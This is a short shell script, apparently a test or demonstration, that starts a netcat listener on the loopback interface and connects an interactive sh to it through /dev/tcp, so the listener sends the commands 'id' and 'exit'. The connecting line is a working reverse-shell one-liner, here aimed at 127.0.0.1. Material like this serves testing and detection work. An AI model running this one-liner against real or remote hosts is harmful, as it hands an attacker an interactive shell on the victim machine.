# A reverse shell: sh with stdin/stdout/stderr on a TCP connection to a
# listener on the loopback interface, which sends it commands.
port=44444
{ printf 'id\nexit\n'; sleep 2; } | busybox nc -l -p "$port" > /dev/null &
sleep 0.5
bash -c "sh -i > /dev/tcp/127.0.0.1/$port 0>&1 2>&1" || true
wait
